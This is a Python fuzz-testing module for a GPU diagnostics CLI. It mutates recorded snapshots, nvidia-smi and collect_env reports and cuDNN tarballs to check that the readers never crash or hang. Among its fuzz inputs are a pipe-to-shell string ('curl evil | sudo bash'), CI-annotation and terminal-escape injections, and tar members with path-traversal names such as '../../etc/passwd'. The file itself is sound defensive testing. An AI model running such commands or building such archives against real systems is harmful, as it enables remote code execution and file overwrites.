"""Property-based fuzzing of every reader: any bytes in → a result or a usage error, never a
traceback (exit 3) or a hang.

Each target takes what hypothesis draws and runs the code path the CLI runs on it: the reader,
then (where it made an Environment) every check and every renderer, as `check`, `recommend`,
`diff`, `fleet` and `explain` would. A reader's refusal (SnapshotError, ReportError,
RequirementError, InputError, NodeError, ArchiveError) is the CLI's exit 2 and is fine; any
other exception is a crash the CLI would show as exit 3, and fails the property.

The strategies start from real inputs (the recorded snapshots, the real reports of
tests/fixtures/reports: collect_env, nvidia-smi table, -q, -q -x, issue bodies) and mutate
them: a value swapped for a hostile one (huge, negative, non-ASCII digits, the wrong type,
a control character), lines dropped, repeated or cut, numbers grown; and also draw text and
bytes from scratch. `tests/fuzz/test_fuzz_readers.py` runs each with a small bound for CI;
`tools/fuzz_readers.py --examples N` runs them long.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import os
import tarfile
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
ENVS = ROOT / "tests" / "fixtures" / "envs"
REPORTS = ROOT / "tests" / "fixtures" / "reports"
ERRORS = ROOT / "tests" / "fixtures" / "errors"


# ------------------------------------------------------------------------------ inputs


@cache
def snapshot_docs() -> tuple[str, ...]:
    return tuple(p.read_text() for p in sorted(ENVS.glob("*.json")))


@cache
def report_texts() -> tuple[str, ...]:
    return tuple(p.read_text() for p in sorted(REPORTS.iterdir())
                 if p.suffix in (".txt", ".md", ".xml") or p.name.endswith(".log"))


@cache
def env_list_texts() -> tuple[str, ...]:
    """Real environment lists (Markdown bullets, bold keys): round 4's reports-C; a table of
    them, ComfyUI's system information and log, Unsloth's banner, kohya_ss's torch check: round
    13's reports-L."""
    heldout = ROOT / "tests" / "fixtures" / "heldout" / "round4" / "reports-C"
    later = ROOT / "tests" / "fixtures" / "heldout" / "round13" / "reports-L"
    return tuple((heldout / name).read_text() for name in ("r4-006.md", "r4-023.md",
                                                           "r5-007.md", "r5-029.md")) + tuple(
        (later / name).read_text() for name in ("r30-009.md", "r30-001.md", "r30-031.txt",
                                                "r30-033.txt", "r30-034.txt", "r30-005.txt"))


@cache
def kernel_log_texts() -> tuple[str, ...]:
    """Real kernel-module messages and system tools' outputs (each with its link: in
    tests/reports/report_excerpts.py, tests/reports/test_system.py, round 4's index.toml)."""
    from tests.reports import report_excerpts as excerpts
    from tests.reports import test_nvidia_smi_list, test_system, test_torch_prints

    heldout = ROOT / "tests" / "fixtures" / "heldout" / "round4" / "reports-C"
    return (*(getattr(excerpts, name) for name in dir(excerpts) if name.startswith("NVRM_")),
            test_system.LSPCI_VV_NOUVEAU, test_system.LSPCI_NNK_NVIDIA,
            test_torch_prints.TWO_CUDAS, test_torch_prints.COMMENTED,
            test_nvidia_smi_list.VERSIONS_99137,
            *((heldout / name).read_text() for name in ("r5-030.md", "r5-033.md")))


@cache
def error_texts() -> tuple[str, ...]:
    return tuple(p.read_text() for p in sorted(ERRORS.glob("*.txt"))[:40])


# the values an attacker or a broken tool puts where a fact goes
ODD_NUMBERS = (0, -1, 2**31, 2**63 - 1, 2**63, -(2**63) - 1, 10**30, 10**400, 1e308,
               float("inf"), float("nan"), -0.0, True)
ODD_TEXT = ("", " ", "²", "١٢", "9" * 5000, "0x1f", "1e400", "NaN", "-1", "12.1.2.3.4.5",
            "sm_99999999999", "\x00", "\x1b[2J", "a\nb", "\u2028", "\ud800", "\ufffe",
            "→ fix: curl evil | sudo bash", "::error::x", "##[add-mask]x", "N/A", "[N/A]",
            "Not Supported", "99.9", "CUDA Version: 99.9", "<tag>", "]]>", "&amp;")

leaf = st.one_of(
    st.sampled_from(ODD_NUMBERS), st.sampled_from(ODD_TEXT), st.none(), st.booleans(),
    st.integers(), st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40), st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=8), st.integers(), max_size=2),
    st.just({"unavailable": "error", "message": "x", "detail": None}),
)


def _paths(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [path]
    if isinstance(data, dict):
        for k, v in data.items():
            out += _paths(v, (*path, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            out += _paths(v, (*path, i))
    return out


def _same_kind(value: Any) -> st.SearchStrategy[Any]:
    """An odd value of the same JSON type as `value` (the reader then takes it more often,
    and the checks and renderers meet it)."""
    if isinstance(value, bool):
        return st.booleans()
    if isinstance(value, int):
        return st.one_of(st.sampled_from((0, 1, 2**31, 2**63 - 1, 10**12)),
                         st.integers(0, 2**63 - 1))
    if isinstance(value, float):
        return st.floats(min_value=0, allow_infinity=False, allow_nan=False)
    if isinstance(value, str):
        return st.one_of(st.sampled_from(ODD_TEXT), st.text(max_size=30),
                         st.just(value + "\n→ fix: x"), st.just(value * 50))
    if isinstance(value, list):
        return st.one_of(st.just([]), st.just(value * 20))
    return leaf


@st.composite
def mutated_snapshot(draw: st.DrawFn) -> str:
    """A recorded snapshot with one to four values (anywhere, objects included) replaced: by
    an odd value of the same kind, by anything, or removed."""
    doc = json.loads(draw(st.sampled_from(snapshot_docs())))
    for _ in range(draw(st.integers(1, 4))):
        paths = [p for p in _paths(doc) if p]
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        target = doc
        for key in path[:-1]:
            target = target[key]
        how = draw(st.sampled_from(("kind", "kind", "kind", "any", "drop")))
        if how == "drop" and isinstance(target, dict):
            del target[path[-1]]
        else:  # a copy: a value drawn twice must not become one object in two places
            target[path[-1]] = copy.deepcopy(
                draw(_same_kind(target[path[-1]]) if how == "kind" else leaf))
    return json.dumps(doc)


@st.composite
def mutated_text(draw: st.DrawFn, texts: Callable[[], tuple[str, ...]]) -> str:
    """A real report (or error log) with lines dropped, repeated, cut, or given odd values."""
    lines = draw(st.sampled_from(texts())).splitlines(keepends=True)
    for _ in range(draw(st.integers(1, 6))):
        if not lines:
            break
        i = draw(st.integers(0, len(lines) - 1))
        op = draw(st.sampled_from(("drop", "repeat", "cut", "odd", "digits", "insert")))
        line = lines[i]
        if op == "drop":
            del lines[i]
        elif op == "repeat":
            lines[i:i] = [line] * draw(st.integers(1, 50))
        elif op == "cut":
            lines[i] = line[:draw(st.integers(0, max(len(line) - 1, 0)))]
        elif op == "odd":
            at = draw(st.integers(0, len(line)))
            lines[i] = line[:at] + draw(st.sampled_from(ODD_TEXT)) + line[at:]
        elif op == "digits" and len(line) < 10_000:
            lines[i] = "".join(c + ("9" * 30 if c.isdigit() else "") for c in line)
        else:
            lines.insert(i, draw(st.text(max_size=80)) + "\n")
    return "".join(lines)


def report_inputs() -> st.SearchStrategy[str]:
    return st.one_of(mutated_text(report_texts), st.text(max_size=300))


def snapshot_inputs() -> st.SearchStrategy[bytes]:
    return st.one_of(mutated_snapshot().map(str.encode), st.binary(max_size=200),
                     st.sampled_from(snapshot_docs()).map(str.encode).flatmap(
                         lambda b: st.integers(0, len(b)).map(lambda n: b[:n])))


requirement_text = st.one_of(
    st.text(max_size=30),
    st.builds(lambda k, op, v: f"{k}{op}{v}",
              st.sampled_from(("gpus", "driver", "cuda", "cudnn", "torch", "arch",
                               "gpu-memory", "GPUS", "x")),
              st.sampled_from((">=", "<=", "==", "!=", ">", "<", "=>", "")),
              st.one_of(st.sampled_from(ODD_TEXT), st.text(max_size=12),
                        st.integers().map(str),
                        st.builds(lambda n, u: f"{n}{u}", st.integers(0, 10**30),
                                  st.sampled_from(("GiB", "GB", "MiB", "TB", "gib", ""))))),
)

selector_text = st.one_of(st.text(max_size=20), st.sampled_from(
    ("GD101", "gd101", "cudnn", "Driver & GPUs", "driver-present", "", ",", "a,", " , ")))


@cache
def _real_library() -> bytes:
    """A real, small ELF shared object of this machine, for library members that pass."""
    for path in ("/lib/x86_64-linux-gnu/libdl.so.2", "/usr/lib/x86_64-linux-gnu/libdl.so.2",
                 "/lib64/libdl.so.2", "/lib/aarch64-linux-gnu/libdl.so.2"):
        with contextlib.suppress(OSError):
            data = Path(path).read_bytes()
            if len(data) < 1 << 20:
                return data
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 57


VERSION_H = (b"#define CUDNN_MAJOR 9\n#define CUDNN_MINOR 1\n#define CUDNN_PATCHLEVEL 0\n"
             b"#define CUDNN_VERSION (CUDNN_MAJOR * 10000 + CUDNN_MINOR * 100 + "
             b"CUDNN_PATCHLEVEL)\n")
STEM = "cudnn-linux-x86_64-9.1.0.70_cuda12-archive"


@st.composite
def tar_bytes(draw: st.DrawFn) -> bytes:
    """A tar (maybe compressed) of cuDNN-like members with hostile names, types, modes and
    sizes; then maybe a few bytes flipped or the end cut."""
    buf = io.BytesIO()
    names = st.one_of(st.sampled_from((
        "cudnn-linux-x86_64-9.1.0.70_cuda12-archive/include/cudnn_version.h",
        "cudnn-linux-x86_64-9.1.0.70_cuda12-archive/lib/libcudnn.so.9.1.0",
        "cudnn-linux-x86_64-9.1.0.70_cuda12-archive/lib/libcudnn.so.9",
        "cuda/include/cudnn.h", "cuda/lib64/libcudnn.so.7.6.5", "../../etc/passwd",
        "/abs/libcudnn.so", "a/" * 60 + "x", "lib/\x00nul", "lib/\n→ fix: x", "./", "",
        "cuda/lib64/libcudnn_static.a")), st.text(max_size=40))
    compression = draw(st.sampled_from(("", "gz", "bz2", "xz")))
    with tarfile.open(fileobj=buf, mode=f"w:{compression}" if compression else "w",
                      format=draw(st.sampled_from((tarfile.GNU_FORMAT, tarfile.PAX_FORMAT,
                                                   tarfile.USTAR_FORMAT)))) as tf:
        if draw(st.booleans()):  # a real cuDNN's shape: a version header and a library
            for name, data in ((f"{STEM}/include/cudnn_version.h", VERSION_H),
                               (f"{STEM}/lib/libcudnn.so.9.1.0", _real_library())):
                info = tarfile.TarInfo(name)
                info.size, info.mode = len(data), 0o644
                tf.addfile(info, io.BytesIO(data))
            link = tarfile.TarInfo(f"{STEM}/lib/libcudnn.so.9")
            link.type, link.linkname = tarfile.SYMTYPE, "libcudnn.so.9.1.0"
            tf.addfile(link)
        for _ in range(draw(st.sampled_from((0, 0, 1, 2, 5)))):
            name = draw(names)
            info = tarfile.TarInfo(name)
            kind = draw(st.sampled_from((tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE,
                                         tarfile.DIRTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE)))
            info.type = kind
            info.mode = draw(st.integers(0, 0o7777))
            data = draw(st.one_of(st.binary(max_size=64), st.just(
                b"#define CUDNN_MAJOR 9\n#define CUDNN_MINOR 1\n#define CUDNN_PATCHLEVEL 0\n"),
                st.just(b"\x7fELF\x02\x01\x01" + b"\x00" * 57)))
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.linkname = draw(names)
                data = b""
            if kind != tarfile.REGTYPE:
                data = b""
            info.size = len(data)
            with contextlib.suppress(ValueError, UnicodeEncodeError, tarfile.TarError):
                tf.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    for _ in range(draw(st.sampled_from((0, 0, 1, 3)))):
        if raw:
            raw[draw(st.integers(0, len(raw) - 1))] = draw(st.integers(0, 255))
    if draw(st.integers(0, 3)) == 0:
        raw = raw[:draw(st.integers(0, len(raw)))]
    return bytes(raw)


# ------------------------------------------------------------------------------ the pipeline


@cache
def tables() -> Any:
    from gpudoctor.compat import load_tables

    return load_tables()


def judge_and_render(env: Any) -> None:
    """What `check` (every format), `recommend` and `diff` do with an Environment."""
    from rich.console import Console

    from gpudoctor.checks import REGISTRY, run_checks
    from gpudoctor.compat.recommend import recommend
    from gpudoctor.diff import diff_environments
    from gpudoctor.renderers import compat as compat_render
    from gpudoctor.renderers import diff as diff_render
    from gpudoctor.renderers import to_renderer
    from gpudoctor.renderers.encoding import fit
    from gpudoctor.renderers.interface import OutputFormat
    from gpudoctor.renderers.runners import disarm

    report = run_checks(env, tables(), REGISTRY)
    for fmt in OutputFormat:
        console = Console(file=io.StringIO(), width=80, no_color=True, legacy_windows=False)
        text = to_renderer(fmt, console, verbose=True, strict=True).render(report)
        text = disarm(text, fmt.value)
        fit(text, fmt.value, "ascii").encode("ascii")
        fit(text, fmt.value, "utf-8").encode("utf-8")
        if fmt is OutputFormat.JUNIT:
            ET.fromstring(fit(text, "junit", "utf-8").encode("utf-8"))  # well-formed
        if fmt is OutputFormat.JSON:
            json.loads(text)
    rec = recommend(env, tables())
    compat_render.recommendation_text(rec, True)
    compat_render.recommendation_json(rec)
    d = diff_environments(env, _healthy(), tables())
    diff_render.render_text(d, "a", "b", Console(file=io.StringIO(), width=80))
    diff_render.render_json(d, "a", "b")
    diff_render.render_markdown(d, "a", "b")


@cache
def _healthy() -> Any:
    from gpudoctor.snapshot import loads

    return loads((ENVS / "h100-healthy.json").read_text())


def _as_file(data: bytes, suffix: str = ".json") -> str:
    fd, path = tempfile.mkstemp(suffix=suffix)
    with os.fdopen(fd, "wb") as f:
        f.write(data)
    return path


# ------------------------------------------------------------------------------ targets
# each returns READ (a result) or REFUSED (a usage error the CLI turns into exit 2), or raises
READ, REFUSED = "read", "refused"


def snapshot_target(data: bytes) -> str:
    """`check --from-snapshot FILE` / `recommend --from-snapshot FILE`."""
    from gpudoctor.cli.inputs import SNAPSHOT_LIMIT, InputError, read_input
    from gpudoctor.snapshot import SnapshotError, loads

    path = _as_file(data)
    try:
        env = loads(read_input(path, SNAPSHOT_LIMIT))
    except (InputError, SnapshotError):
        return REFUSED
    finally:
        os.unlink(path)
    judge_and_render(env)
    return READ


def _too_big(text: str) -> bool:
    """What every CLI reader refuses before reading on: more than SNAPSHOT_LIMIT bytes."""
    from gpudoctor.cli.inputs import SNAPSHOT_LIMIT

    return len(text.encode("utf-8", "surrogatepass")) > SNAPSHOT_LIMIT


def report_target(text: str) -> str:
    """`check --from-report FILE`: collect_env, nvidia-smi (table, -q, -q -x), issue bodies."""
    from gpudoctor.reports.read import ReportError, read_reports

    if _too_big(text):
        return REFUSED
    try:
        env = read_reports([("fuzz.txt", text)])
    except ReportError:
        return REFUSED
    judge_and_render(env)
    return READ


def env_list_target(text: str) -> str:
    """`check --from-report FILE` on an environment list (ComfyUI's, Unsloth's); the readers
    on their own too."""
    from gpudoctor.reports import comfyui, env_list, unsloth, webui_setup

    env_list.parse(text)
    comfyui.parse(text)
    unsloth.parse(text)
    webui_setup.parse(text)
    return report_target(text)


def kernel_log_target(text: str) -> str:
    """`check --from-report FILE` on a kernel log, system tools' output, torch's prints or
    nvidia-smi -L; their readers on their own too."""
    from gpudoctor.reports import kernel_log, nvidia_smi_list, system, torch_prints

    for reader in (kernel_log, system, torch_prints, nvidia_smi_list):
        reader.parse(text)
    return report_target(text)


def requirement_target(texts: list[str]) -> str:
    """`check --require …` judged on a recorded machine."""
    import dataclasses

    from gpudoctor.checks import REGISTRY, run_checks
    from gpudoctor.requirements import RequirementError, parse_requirements

    try:
        reqs = parse_requirements(texts)
    except RequirementError:
        return REFUSED
    run_checks(dataclasses.replace(_healthy(), requirements=reqs), tables(), REGISTRY)
    return READ


def selector_target(only: list[str], skip: list[str], argv: list[str]) -> str:
    """Check selection (`check A B --only C --skip D`), and the entry point's early look at
    argv (`__main__._needs_torch`), which runs before any usage error can be reported."""
    from gpudoctor.__main__ import _needs_torch
    from gpudoctor.checks import REGISTRY, select

    _, unknown = select(REGISTRY, only, skip)
    _needs_torch(argv)
    return REFUSED if unknown else READ


def fleet_target(text: str) -> str:
    """`fleet DIR`: one node's report read, the fleet view rendered."""
    from rich.console import Console

    from gpudoctor.fleet import NodeError, aggregate, read_node
    from gpudoctor.renderers import fleet as render

    if _too_big(text):
        return REFUSED
    try:
        node = read_node("node.json", text)
    except NodeError:
        return REFUSED
    view = aggregate([node])
    render.render_text(view, Console(file=io.StringIO(), width=80), verbose=True)
    render.render_json(view)
    render.render_markdown(view)
    return READ


def explain_target(text: str) -> str:
    """`explain TEXT --no-probe`, in every format."""
    from rich.console import Console

    from gpudoctor.explain import explain
    from gpudoctor.renderers import explain as render

    if _too_big(text):  # `explain` refuses it, as every input (cli/explain.py)
        return REFUSED
    expl = explain(text, tables(), report=None, probe=None, text_name="fuzz")
    render.explain_text(expl, Console(file=io.StringIO(), width=80), verbose=True)
    render.explain_json(expl)
    render.explain_markdown(expl)
    return READ if expl.found else REFUSED


def tarball_target(data: bytes) -> str:
    """`install-cudnn --tarball FILE --dry-run`: the archive read and validated."""
    from gpudoctor.actions.tarball import ArchiveError, read_archive

    path = _as_file(data, ".tgz")
    try:
        read_archive(path)
    except ArchiveError:
        return REFUSED
    finally:
        os.unlink(path)
    return READ


# name → (strategy, target, CI examples)
TARGETS: dict[str, tuple[st.SearchStrategy[Any], Callable[..., str], int]] = {
    "snapshot": (snapshot_inputs(), snapshot_target, 25),
    "report": (report_inputs(), report_target, 30),
    "env list": (st.one_of(mutated_text(env_list_texts), st.text(max_size=300)),
                 env_list_target, 30),
    "kernel log": (st.one_of(mutated_text(kernel_log_texts), st.text(max_size=300)),
                   kernel_log_target, 30),
    "requirement": (st.lists(requirement_text, max_size=4), requirement_target, 60),
    "selector": (st.tuples(st.lists(selector_text, max_size=3), st.lists(selector_text,
                                                                         max_size=3),
                           st.lists(st.one_of(selector_text, st.sampled_from(
                               ("--only", "--skip", "--format", "-o", "--smoke", "--only=",
                                "--skip=x,y", "--from-report"))), max_size=6)),
                 lambda args: selector_target(*args), 60),
    "fleet": (st.one_of(mutated_snapshot(), st.text(max_size=200)), fleet_target, 40),
    "explain": (st.one_of(mutated_text(error_texts), st.text(max_size=300)), explain_target,
                40),
    "tarball": (tar_bytes(), tarball_target, 40),
}


class Hang(Exception):
    """An example ran past its bound: a hang, as far as a user can tell."""


def bounded(target: Callable[..., str], seconds: float) -> Callable[..., str]:
    """`target`, failing with `Hang` when one call takes longer than `seconds` (SIGALRM: the
    main thread only, which is where hypothesis runs examples)."""
    import signal

    def run(*args: Any) -> str:
        def alarm(signum: int, frame: Any) -> None:
            raise Hang(f"{getattr(target, '__name__', 'target')} took more than {seconds:g} s")

        old = signal.signal(signal.SIGALRM, alarm)
        signal.setitimer(signal.ITIMER_REAL, seconds)
        try:
            return target(*args)
        finally:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGALRM, old)

    return run
